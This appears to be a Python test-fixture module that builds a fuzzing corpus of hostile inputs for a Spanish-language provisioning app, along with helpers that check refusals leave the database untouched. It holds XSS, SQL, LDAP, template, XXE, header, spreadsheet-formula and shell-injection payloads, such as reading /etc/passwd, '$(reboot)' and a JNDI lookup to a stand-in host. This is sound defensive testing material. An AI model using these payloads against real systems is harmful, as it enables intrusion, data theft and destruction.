"""A corpus of hostile inputs (more than 300), built from families of attacks.

Each family is a list of payloads; most are also sent wrapped in a plausible value
("Juan<payload>"), because filters that only look at the start of a field are common.
Invalid UTF-8 cannot be a Python str: those byte strings are kept apart (``RAW_BYTES``).
At the end, what the tests that send them judge the answers with.
"""

from __future__ import annotations

import re

from sqlalchemy import inspect, text

from provisioning import db

OVERLONG = ["A" * n for n in (51, 101, 121, 255, 256, 501, 1001, 4097, 20000)] + [
    "Ñ" * 300, "🙂" * 300, "9" * 400]

CONTROL = ["\x00", "a\x00b", "\x00" * 20, "\x01", "\x07", "\x08", "\x1b[2J", "\x1b]0;x\x07",
           "\x7f", "\x85", "\r", "\r\n", "\n\n\n", "\t\t", "\x0b\x0c", "a\rb", "\u2028",
           "\u2029", "\ufffd", "\ufeffBOM", "\ud7ff"]

HTML_JS = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//x.example/x.js></SCRIPT>",
    '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<iframe src=javascript:alert(1)>",
    "javascript:alert(1)", "<a href=\"javascript:alert(1)\">x</a>", "<body onload=alert(1)>",
    "<style>*{display:none}</style>", "<!--", "-->", "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "{{7*7}}", "{% raw %}", "<math><mi//xlink:href=x>",
    "<details open ontoggle=alert(1)>", "&lt;script&gt;", "&#60;script&#62;",
    "<input autofocus onfocus=alert(1)>", "<meta http-equiv=refresh content=0;url=//x>",
    "<base href=//x.example/>", "data:text/html,<script>alert(1)</script>",
]

SQL = [
    "' OR '1'='1", "' OR 1=1 --", "\" OR \"\"=\"", "'; DROP TABLE account_requests; --",
    "1; DELETE FROM staff_users", "' UNION SELECT password_hash FROM staff_users --",
    "admin'--", "' AND SLEEP(5) --", "'; SELECT pg_sleep(5); --", "1' ORDER BY 99 --",
    "%' OR '%'='", "') OR ('a'='a", "\\'", "''", "';", "\\", "%", "_", "0x41", "NULL",
]

LDAP = [
    "*", "*)(uid=*", "*)(|(uid=*))", ")(cn=*))(|(cn=*", "admin*", "*)(objectClass=*",
    "\\2a", "\\28\\29", "\\00", "CN=Administrator,CN=Users,DC=ssm,DC=test", "cn=x,dc=y",
    "a,b", "a+b", "a=b", "#leading", " leading space", "trailing space ", "a;b", "a<b>c",
    'a"b', "a\\b", "(|(sAMAccountName=*))", "1.2.840.113556.1.4.803",
]

TRAVERSAL = [
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/shadow", "%2e%2e%2f",
    "..%2f..%2f", "....//....//", "file:///etc/passwd", "/proc/self/environ", "~root",
    "\\\\server\\share",
]

FORMAT = [
    "%s%s%s%s", "%n%n", "%x%x%x", "{0}", "{0.__class__}", "{__import__('os')}",
    "${7*7}", "#{7*7}", "%(secret)s", "{{config}}", "{{request.environ}}", "${jndi:ldap://x/a}",
]

UNICODE = [
    "ЈОSÉ",  # Cyrillic look-alikes
    "Mаría",  # Cyrillic a
    "Ρeña",  # Greek Rho
    "\u202eoinotnA", "\u202dabc", "\u2066x\u2069", "Jo\u200bsé", "Jo\u200dsé", "Jo\u2060sé",
    "Ｊｕａｎ",  # full width
    "ﬁ", "Å", "Ω", "ß", "İ", "ı", "ǅ", "e\u0301", "N\u0303", "\u00a0", "\u3000", "\u1680",
    "ج", "中文", "한국어", "ℌ", "𝔍𝔲𝔞𝔫", "Ⅻ", "①", "\U000e0041",
]

EMOJI = ["😀", "👍🏽", "👨‍👩‍👧‍👦", "🇲🇽", "❤️", "🤖🤖🤖", "🏥", "💉", "🧑🏻‍⚕️", "️"]

EDGE = ["", " ", "   ", "-1", "0", "00000", "99999999999999999999", "1e309", "NaN", "Infinity",
        "null", "None", "true", "false", "[]", "{}", "[object Object]", "undefined", "-0",
        "0x7fffffff", "2147483648", "9223372036854775808", "1.0", "+52 777 123 4567"]

INJECTION = [
    "a\r\nSet-Cookie: alta_sesion=x", "a\r\nLocation: //evil.example", "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "<?xml version=\"1.0\"?><!DOCTYPE x "
    "[<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>", "$(reboot)", "`id`", "; ls -la",
    "| cat /etc/passwd", "&& whoami", "x' || pg_sleep(3) || '",
]

# Decimal digits of other scripts: Python's \d and int() take them, a CURP or a phone never has
# them (they once crashed the CURP check digit).
DIGITS = ["٠١٢٣٤٥٦٧٨٩", "１２３４５", "²³", "৪২", "777 ١٢٣ ٤٥٦٧", "BEML٩٢٠٣١٣HMCLNS09",
          "BEML920313HMCLNS0٩", "ＢＥＭＬ９２０３１３ＨＭＣＬＮＳ０９"]

FAMILIES = {
    "overlong": OVERLONG, "control": CONTROL, "html_js": HTML_JS, "sql": SQL, "ldap": LDAP,
    "traversal": TRAVERSAL, "format": FORMAT, "unicode": UNICODE, "emoji": EMOJI,
    "edge": EDGE, "injection": INJECTION, "digits": DIGITS,
}


def corpus() -> list[str]:
    """Every payload, bare and inside a plausible value, without duplicates, stable order."""
    seen: dict[str, None] = {}
    for family, payloads in FAMILIES.items():
        for payload in payloads:
            seen.setdefault(payload)
            if family not in ("overlong", "edge"):
                seen.setdefault(f"Juan{payload}López")
    return list(seen)


def share(index: int, ways: int, head_ways: int = 1) -> list[str]:
    """The payloads for the ``index``-th field attacked when the corpus is spread over
    ``ways`` fields: the first payload of every family (and wrapped in a name for HTML/JS,
    the one the tests check for escaping), and a rotating ``1/ways`` of the rest, so that
    ``ways`` consecutive fields together get the whole corpus. ``ways=1`` is the whole
    corpus. With ``head_ways`` > 1 each first payload goes to one field in ``head_ways``
    too, in turn (the HTML/JS one always: escaping is checked on it)."""
    every = corpus()
    if ways <= 1:
        return every
    marked = f"Juan{FAMILIES['html_js'][0]}López"
    firsts = [payloads[0] for payloads in FAMILIES.values()]
    heads = {marked} | {p for n, p in enumerate(firsts) if (index + n) % head_ways == 0}
    rest = [p for p in every if p not in heads and p not in firsts and p != marked]
    return [p for p in every if p in heads] + rest[index % ways::ways]


def raw_share(index: int) -> list[bytes]:
    """The invalid UTF-8 for the ``index``-th field: the first always and one of the others
    in turn (every one reaches a field in ``len(RAW_BYTES) - 1``)."""
    return [RAW_BYTES[0], RAW_BYTES[1 + index % (len(RAW_BYTES) - 1)]]


RAW_BYTES = [b"\xff\xfe", b"\xc3", b"\xc3\x28", b"\xe2\x82", b"\xf0\x9f\x98", b"\xed\xa0\x80",
             b"Jos\xe9", b"\x80abc", b"%00", b"\xc0\xaf"]


# -- judging the answers ----------------------------------------------------------------------

# Tables that may change when a request is refused: the audit trail of the refusal, rate
# limits, sign-in failure counters (UPDATEs; the pre-registration's per typed name),
# document and checkpoint bookkeeping.
VOLATILE = {"audit_events", "audit_head", "audit_checkpoints", "rate_limit_hits",
            "alembic_version", "counters", "preregistration_sign_in_throttles"}
SPANISH = re.compile(r"[áéíóúñÁÉÍÓÚÑ¿¡]|\b(?:no|el|la|de|que|su|una?|debe|revise|escriba|"
                     r"elija|puede|válid[oa])\b", re.IGNORECASE)


_TABLES: dict[str, list[str]] = {}  # per database URL: the catalogue is not read again


def domain_counts(exclude: frozenset[str] | set[str] = VOLATILE) -> dict[str, int]:
    """Rows in every table but ``exclude`` (a refusal must leave them as they were)."""
    connection = db.session().connection()
    url = str(connection.engine.url)
    if url not in _TABLES:
        _TABLES[url] = inspect(connection).get_table_names()
    tables = [t for t in _TABLES[url] if t not in exclude]
    # Table names come from the schema itself, not from input.
    sql = " UNION ALL ".join(f"SELECT '{t}', count(*) FROM \"{t}\"" for t in tables)  # noqa: S608
    return dict(connection.execute(text(sql)).all())
